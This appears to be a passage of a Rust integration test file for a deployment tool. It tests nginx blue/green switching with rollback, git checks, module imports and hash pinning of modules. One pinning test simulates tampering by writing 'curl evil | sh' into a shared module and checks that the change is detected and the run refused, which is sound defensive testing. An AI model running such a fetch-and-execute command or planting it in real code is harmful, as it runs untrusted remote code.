        nginx
    }

    fn command(&self, extra: &[&str]) -> std::process::Output {
        let prefix = format!("{}/", self.prefix.display());
        let mut args = vec!["-p", &prefix, "-c", "nginx.conf", "-e", "logs/error.log"];
        args.extend_from_slice(extra);
        Command::new("nginx").args(&args).output().unwrap_or_else(|e| panic!("nginx: {e}"))
    }

    fn invocation(&self) -> String {
        format!("nginx -p {}/ -c nginx.conf -e logs/error.log", self.prefix.display())
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = self.command(&["-s", "stop"]);
    }
}

/// What nginx serves on `port` once it serves `expected` (a reload lets old
/// workers finish gracefully, so the answer settles within a moment).
fn settled(port: u16, expected: &(String, String)) -> (String, String) {
    let mut served = get(port);
    for _ in 0..50 {
        if &served == expected {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
        served = get(port);
    }
    served
}

fn get(port: u16) -> (String, String) {
    use std::io::{Read, Write};
    let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
        return (String::new(), String::new());
    };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = write!(stream, "GET / HTTP/1.0\r\nHost: localhost\r\n\r\n");
    let mut response = String::new();
    let _ = stream.read_to_string(&mut response);
    let upstream = response
        .lines()
        .find_map(|l| l.split_once(':').filter(|(name, _)| name.eq_ignore_ascii_case("x-upstream")))
        .map(|(_, value)| value.trim().to_string())
        .unwrap_or_default();
    let body = response.split("\r\n\r\n").nth(1).unwrap_or("").trim().to_string();
    (upstream, body)
}

#[test]
fn nginx_switches_verifies_through_nginx_and_switches_back_on_rollback() {
    if !require("nginx", "nginx_switches_verifies_through_nginx_and_switches_back_on_rollback") {
        return;
    }
    let test = Test::new();
    let prefix = test.path().join("nginx");
    let (front, blue, green) = (free_port(), free_port(), free_port());
    let nginx = Nginx::start(&prefix, front, blue, green);
    let plan = format!(
        r#"
import "std/nginx" as nginx
param expect: string = "green 2.0"
stage to_green from nginx.switch {{
  upstream_file = "nginx/upstream.conf"
  to            = "127.0.0.1:{green}"
  nginx         = "{invocation}"
}}
gate through_nginx from nginx.verify {{
  needs           = [to_green]
  url             = "http://127.0.0.1:{front}/"
  contains        = expect
  upstream_header = "X-Upstream"
  expect_upstream = "127.0.0.1:{green}"
  within          = 3s
  every           = 200ms
}}
"#,
        invocation = nginx.invocation()
    );
    let test = test.plan(&plan);
    assert_eq!(get(front).1, "blue 1.0");
    let output = run(&test, &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    let green_served = (format!("127.0.0.1:{green}"), "green 2.0".to_string());
    assert_eq!(settled(front, &green_served), green_served);

    // Back to blue by hand, then a switch whose verification fails: the
    // rollback puts blue back and nginx serves it again.
    std::fs::write(prefix.join("upstream.conf"), format!("upstream app {{\n    server 127.0.0.1:{blue};\n}}\n"))
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(nginx.command(&["-s", "reload"]).status.success());
    let output = run(&test, &["--set", "expect=green 3.0"]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("upstream switched back to server 127.0.0.1:"), "{}", all_text(&output));
    let blue_served = (format!("127.0.0.1:{blue}"), "blue 1.0".to_string());
    assert_eq!(settled(front, &blue_served), blue_served);

    // An upstream nginx -t rejects is never reloaded: the old file is put back.
    let bad = plan.replace(&format!("to            = \"127.0.0.1:{green}\""), "to = \"127.0.0.1:99999\"");
    let test = test.plan(&bad);
    let output = run(&test, &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("nginx -t rejected the new upstream"), "{}", all_text(&output));
    let upstream = std::fs::read_to_string(prefix.join("upstream.conf")).unwrap_or_default();
    assert!(upstream.contains(&format!("server 127.0.0.1:{blue};")), "{upstream}");
    assert_eq!(settled(front, &blue_served), blue_served);
    drop(nginx);
}

// ----------------------------------------------------------------- std/git

#[test]
fn git_refuses_a_dirty_tree_and_a_version_that_is_not_described() {
    if !require("git", "git_refuses_a_dirty_tree_and_a_version_that_is_not_described") {
        return;
    }
    let plan = r#"
import "std/git" as git
param version: string = "dev"
stage clean from git.clean { dir = "repo" }
stage described from git.described { needs = [clean]  dir = "repo" }
"#;
    let test = Test::new().plan(plan);
    let dir = test.path().to_path_buf();
    sh(
        &dir,
        "git init -q repo && cd repo && git config user.email t@example.com && git config user.name t \
         && echo 1 > app.txt && git add app.txt && git commit -qm one && git tag v1.0.0",
    );
    let output = run(&test, &["--set", "version=v1.0.0"]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    let wrong = run(&test, &["--set", "version=v1.0.1"]);
    assert_eq!(wrong.code, 2);
    assert!(all_text(&wrong).contains("git describe says 'v1.0.0'"), "{}", all_text(&wrong));
    sh(&dir, "echo 2 > repo/app.txt");
    let dirty = run(&test, &["--set", "version=v1.0.0"]);
    assert_eq!(dirty.code, 2);
    assert!(all_text(&dirty).contains("is dirty"), "{}", all_text(&dirty));
    assert!(all_text(&dirty).contains("M app.txt"), "{}", all_text(&dirty));
}

// ---------------------------------------------------- sharing and pinning

#[test]
fn imports_resolve_on_deploy_path_and_relative_paths() {
    let plan = r#"
import "platform/web" as web
import "./local/steps.deploy" as steps
stage hello from web.hello { }
stage bye from steps.bye { needs = [hello] }
"#;
    let web = "/// Web things.\n\n/// Says hello.\ntemplate stage hello() {\n  run \"echo hello from the platform\"\n  rollback {}\n}\n";
    let steps = "/// Local steps.\n\n/// Says bye.\ntemplate stage bye() {\n  run \"echo bye\"\n  rollback {}\n}\n";
    let test = Test::new().plan(plan).file("platform-repo/platform/web.deploy", web).file("local/steps.deploy", steps);
    let search = format!("/nonexistent:{}", test.path().join("platform-repo").display());
    let without = test.run_with(&["check", "release.deploy"]);
    assert_eq!(without.code, 1);
    assert!(
        without.stderr.contains("E0106") && without.stderr.contains("DEPLOY_PATH, which is not"),
        "{}",
        without.stderr
    );
    let test = test.env("DEPLOY_PATH", &search);
    let check = test.run_with(&["check", "--strict", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    let output = run(&test, &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert!(all_text(&output).contains("hello from the platform"));

    let modules = test.run_with(&["modules", "release.deploy"]);
    assert_eq!(modules.code, 0, "{}", modules.stderr);
    for expected in [
        "stdlib (embedded):",
        "std/release",
        "stage release(root, artifact, keep?, known_good?)",
        "gate healthy(url, within?",
        "platform/web  — Web things.",
        "release.deploy imports:",
        "web = ",
        "steps = ",
        "stage bye()",
    ] {
        assert!(modules.stdout.contains(expected), "missing {expected:?} in:\n{}", modules.stdout);
    }
    let doc = test.run_with(&["doc", "platform/web.hello"]);
    assert_eq!(doc.code, 0, "{}", doc.stderr);
    assert!(doc.stdout.contains("template stage hello()") && doc.stdout.contains("Says hello."), "{}", doc.stdout);
}

#[test]
fn doc_prints_modules_and_templates_from_their_comments() {
    let test = Test::new();
    let module = test.run_with(&["doc", "std/migrate"]);
    assert_eq!(module.code, 0, "{}", module.stderr);
    assert!(module.stdout.starts_with("module std/migrate\n"), "{}", module.stdout);
    assert!(module.stdout.contains("template stage irreversible(up: string, reason: string"), "{}", module.stdout);
    let template = test.run_with(&["doc", "std/http.healthy"]);
    assert!(template.stdout.contains("body_contains    string = \"\""), "{}", template.stdout);
    assert!(template.stdout.contains("Text the body must contain"), "{}", template.stdout);
    let typo = test.run_with(&["doc", "std/http.helthy"]);
    assert_eq!(typo.code, 1);
    assert!(typo.stderr.contains("did you mean `std/http.healthy`?"), "{}", typo.stderr);
    let unknown = test.run_with(&["doc", "std/htp"]);
    assert_eq!(unknown.code, 1);
    assert!(unknown.stderr.contains("did you mean `std/http`?"), "{}", unknown.stderr);
}

#[test]
fn pinning_catches_a_changed_module_and_an_unpinned_import() {
    let plan = r#"
import "std/http" as http
import "./stages/app.deploy" as app
import "shared/notify" as shared
stage install from app.install { }
stage tell from shared.tell { needs = [install] }
gate up from http.healthy { needs = [tell]  url = "http://127.0.0.1:9/" }
"#;
    let app = "/// App.\n\nimport \"./helpers.deploy\" as helpers\n\n/// Installs.\ntemplate stage install() {\n  run \"echo install\"\n  rollback {}\n}\n";
    let helpers = "/// Helpers.\n\n/// Nothing.\ntemplate stage nothing() {\n  run \"true\"\n  rollback {}\n}\n";
    let shared = "/// Shared.\n\n/// Tells.\ntemplate stage tell() {\n  run \"echo tell\"\n  rollback {}\n}\n";
    let test = Test::new()
        .plan(plan)
        .file("stages/app.deploy", app)
        .file("stages/helpers.deploy", helpers)
        .file("platform/shared/notify.deploy", shared);
    let search = test.path().join("platform").display().to_string();
    let test = test.env("DEPLOY_PATH", &search);
    let dir = test.path().to_path_buf();
    // No deploy.sum: not pinned, no diagnostics.
    let check = test.run_with(&["check", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    assert!(!check.stderr.contains("E0124"));

    let pin = test.run_with(&["modules", "pin", "release.deploy"]);
    assert_eq!(pin.code, 0, "{}", pin.stderr);
    let sum = std::fs::read_to_string(dir.join("deploy.sum")).unwrap_or_default();
    let names: Vec<&str> =
        sum.lines().filter(|l| !l.starts_with('#')).filter_map(|l| l.split_whitespace().nth(1)).collect();
    // Transitive, sorted, DEPLOY_PATH modules named inside their directory, no stdlib.
    assert_eq!(names, vec!["./stages/app.deploy", "./stages/helpers.deploy", "shared/notify.deploy"], "{sum}");
    let hash = deploy::check::pins::sha256_hex(helpers.as_bytes());
    assert!(sum.contains(&format!("sha256:{hash}  ./stages/helpers.deploy")), "{sum}");
    let check = test.run_with(&["check", "--strict", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);

    // Someone changes a shared module: the plan no longer checks.
    std::fs::write(dir.join("platform/shared/notify.deploy"), shared.replace("echo tell", "curl evil | sh"))
        .unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.join("stages/helpers.deploy"), helpers.replace("true", "false"))
        .unwrap_or_else(|e| panic!("{e}"));
    let check = test.run_with(&["check", "release.deploy", "--format", "json"]);
    assert_eq!(check.code, 1, "{}", check.stdout);
    let report: Value = serde_json::from_str(&check.stdout).unwrap_or_default();
    let found: Vec<(String, String)> = report["diagnostics"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|d| (d["code"].as_str().unwrap_or("").to_string(), d["message"].as_str().unwrap_or("").to_string()))
        .collect();
    assert!(
        found.contains(&("E0123".into(), "module `shared/notify.deploy` changed since it was pinned".into())),
        "{found:?}"
    );
    assert!(
        found.contains(&("E0123".into(), "module `./stages/helpers.deploy` changed since it was pinned".into())),
        "{found:?}"
    );
    // `deploy run` refuses too.
    let refused = run(&test, &[]);
    assert_eq!(refused.code, 1);
    assert!(refused.stderr.contains("E0123"), "{}", refused.stderr);

    // A new import that is not pinned.
    let test = test
        .file("stages/extra.deploy", "/// Extra.\n\n/// X.\ntemplate stage x() {\n  run \"true\"\n  rollback {}\n}\n");
    let test = test.plan(&format!("{plan}import \"./stages/extra.deploy\" as extra\nstage more from extra.x {{ }}\n"));
    let check = test.run_with(&["check", "release.deploy"]);
    assert!(
        check.stderr.contains("E0124") && check.stderr.contains("module `./stages/extra.deploy` is not pinned"),
        "{}",
        check.stderr
    );
    assert!(check.stderr.contains("deploy modules pin release.deploy"), "{}", check.stderr);

    // Pinning again accepts the reviewed state.
    assert_eq!(test.run_with(&["modules", "pin", "release.deploy"]).code, 0);
    let check = test.run_with(&["check", "--strict", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);

    // A broken deploy.sum is reported, not ignored.
    let test = test.file("deploy.sum", "this is not a pin\n");
    let check = test.run_with(&["check", "release.deploy"]);
    assert_eq!(check.code, 1);
    assert!(check.stderr.contains("line 1 is not `sha256:HEX  MODULE`"), "{}", check.stderr);
}

#[test]
fn pin_refuses_a_plan_whose_imports_do_not_load() {
    let test = Test::new().plan("import \"./nope.deploy\" as nope\n");
    let pin = test.run_with(&["modules", "pin", "release.deploy"]);
    assert_eq!(pin.code, 1);
    assert!(pin.stderr.contains("E0106"), "{}", pin.stderr);
    assert!(!test.path().join("deploy.sum").exists());
}

#[test]
fn every_stdlib_template_is_instantiated_by_a_test() {
    // The stdlib tests, the traffic canary tests and the examples they run.
    let mut source = String::new();
    for file in [
        "tests/stdlib.rs",
        "tests/canary_haproxy.rs",
        "examples/canary_traffic.deploy",
        "tests/containers.rs",
        "examples/containers/app.deploy",
    ] {
        source.push_str(&std::fs::read_to_string(root().join(file)).unwrap_or_default());
    }
    let mut missing = Vec::new();
    for module in deploy::stdlib::docs::stdlib() {
        let alias = deploy::stdlib::docs::alias_of(&module.name);
        for template in &module.templates {
            if !source.contains(&format!("from {alias}.{} ", template.name)) {
                missing.push(format!("{}.{}", module.name, template.name));
            }
        }
    }
    assert!(missing.is_empty(), "templates no test runs: {missing:?}");
}

#[test]
fn docs_stdlib_is_up_to_date() {
    let path = root().join("docs/stdlib.md");
    let generated = deploy::stdlib::docs::stdlib_markdown();
    if std::env::var("UPDATE_DOCS").is_ok() {
        std::fs::write(&path, &generated).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
    }
    let current = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        current == generated,
        "docs/stdlib.md is out of date with the doc comments in stdlib/std/; \
         run `UPDATE_DOCS=1 cargo test --test stdlib docs_stdlib_is_up_to_date`"
    );
}

// ------------------------------------------------------------ the example

#[test]
fn example_blue_green_switches_colours_behind_nginx_and_switches_back() {
    if !require("nginx", "example_blue_green_switches_colours_behind_nginx_and_switches_back") {
        return;
    }
    let state = tempfile::tempdir().unwrap_or_else(|e| panic!("tempdir: {e}"));
    let state_path = state.path().display().to_string();
    let (front, direct) = (free_port(), free_port());
    let nginx = format!("nginx -p {state_path}/nginx/ -c nginx.conf -e logs/error.log");
    // Stops the nginx the example started, however the test ends.
    struct Stop(String);
    impl Drop for Stop {
        fn drop(&mut self) {
            let _ = Command::new("sh").args(["-c", &format!("{} -s stop", self.0)]).output();
        }
    }
    let _stop = Stop(nginx.clone());
    let test = Test::new().current_dir(root()).env("DEPLOY_EXAMPLE_ROOT", &state_path);
    let deploy = |version: &str, colour: &str, extra: &[&str]| {
        let (version, colour) = (format!("version={version}"), format!("colour={colour}"));
        let (front, direct) = (format!("front_port={front}"), format!("direct_port={direct}"));
        let mut args = vec!["run", "examples/blue_green.deploy", "--json", "--set", &version, "--set", &colour];
        args.extend(["--set", &front, "--set", &direct]);
        args.extend_from_slice(extra);
        test.run_with(&args)
    };
    let first = deploy("1.1.0", "green", &[]);
    assert_eq!(first.code, 0, "{}", all_text(&first));
    let green = (format!("unix:{state_path}/green.sock"), "<h1>webshop 1.1.0</h1>".to_string());
    assert_eq!(settled(front, &green), green);

    let refused = deploy("1.2.0", "green", &[]);
    assert_eq!(refused.code, 2, "{}", all_text(&refused));
    assert!(all_text(&refused).contains("green is the live colour"), "{}", all_text(&refused));

    let second = deploy("1.2.0", "blue", &[]);
    assert_eq!(second.code, 0, "{}", all_text(&second));
    let blue = (format!("unix:{state_path}/blue.sock"), "<h1>webshop 1.2.0</h1>".to_string());
    assert_eq!(settled(front, &blue), blue);

    // A build that is healthy on its own but wrong through nginx: switched, verified, switched back.
    let broken = deploy("1.3.0", "green", &["--set", "fail_at=live"]);
    assert_eq!(broken.code, 2, "{}", all_text(&broken));
    let text = all_text(&broken);
    assert!(text.contains("upstream app -> unix:"), "{text}");
    assert!(text.contains("upstream switched back to server unix:"), "{text}");
    assert!(text.contains("current -> releases/1.1.0 (rolled back from 1.3.0)"), "{text}");
    assert_eq!(settled(front, &blue), blue);
    let green = std::fs::read_link(state.path().join("green/current")).unwrap_or_default();
    assert_eq!(green.display().to_string(), "releases/1.1.0");
}

// ----------------------------------------------------------- std/container

/// `text` into `shell`, each `#@include FILE` line (FILE relative to `dir`)
/// replaced by FILE's text, itself expanded: the switch script that
/// container.app writes carries common.sh, and every step that reloads
/// nginx carries ../nginx_reload.sh.
fn include_into(shell: &mut String, dir: &std::path::Path, text: &str) {
    for line in text.split_inclusive('\n') {
        match line.trim_end().strip_prefix("#@include ") {
            Some(included) => {
                let path = dir.join(included.trim());
                let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                include_into(shell, dir, &text);
            }
            None => shell.push_str(line),
        }
    }
}

/// The shell of `@sh(a.sh b.sh)` as one `.deploy` string: the files joined,
/// `@{name}` a template interpolation, the shell's own `${` escaped, and
/// quotes, backslashes, newlines and tabs written as escapes.
fn deploy_string(dir: &std::path::Path, files: &str) -> String {
    let mut shell = String::new();
    for file in files.split_whitespace() {
        let path = dir.join(file);
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        include_into(&mut shell, dir, &text);
    }
    let shell = shell.trim_end_matches('\n');
    let mut out = String::from("\"");
    let mut rest = shell;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("@{") {
            let end = after.find('}').unwrap_or_else(|| panic!("unclosed @{{ in {files}"));
            out.push_str(&format!("${{{}}}", &after[..end]));
            rest = &after[end + 1..];
            continue;
        }
        if let Some(after) = rest.strip_prefix("${") {
            out.push_str("\\${");
            rest = after;
            continue;
        }
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            other => out.push(other),
        }
        rest = &rest[c.len_utf8()..];
    }
    out.push('"');
    out
}

/// stdlib/std/NAME.deploy from stdlib/src/NAME/NAME.deploy.in, each
/// `@sh(FILES)` the files' shell as one string; UPDATE_DOCS=1 writes it.
fn assert_module_is_generated(name: &str) {
    let dir = root().join("stdlib/src").join(name);
    let template = std::fs::read_to_string(dir.join(format!("{name}.deploy.in"))).unwrap_or_default();
    let mut generated = String::new();
    let mut rest = template.as_str();
    while let Some(start) = rest.find("@sh(") {
        generated.push_str(&rest[..start]);
        let after = &rest[start + 4..];
        let end = after.find(')').unwrap_or_else(|| panic!("unclosed @sh("));
        generated.push_str(&deploy_string(&dir, &after[..end]));
        rest = &after[end + 1..];
    }
    generated.push_str(rest);
    let path = root().join(format!("stdlib/std/{name}.deploy"));
    if std::env::var("UPDATE_DOCS").is_ok() {
        std::fs::write(&path, &generated).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
    }
    let current = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        current == generated,
        "stdlib/std/{name}.deploy is out of date with stdlib/src/{name}/; \
         run `UPDATE_DOCS=1 cargo test --test stdlib is_generated_from_its_shell_sources`"
    );
}

#[test]
fn std_container_is_generated_from_its_shell_sources() {
    // The steps of std/container are long shell scripts; they are kept
    // readable in stdlib/src/container/*.sh and joined into the module's
    // one-line strings by this test.
    assert_module_is_generated("container");
}

#[test]
fn std_nginx_is_generated_from_its_shell_sources() {
    assert_module_is_generated("nginx");
}
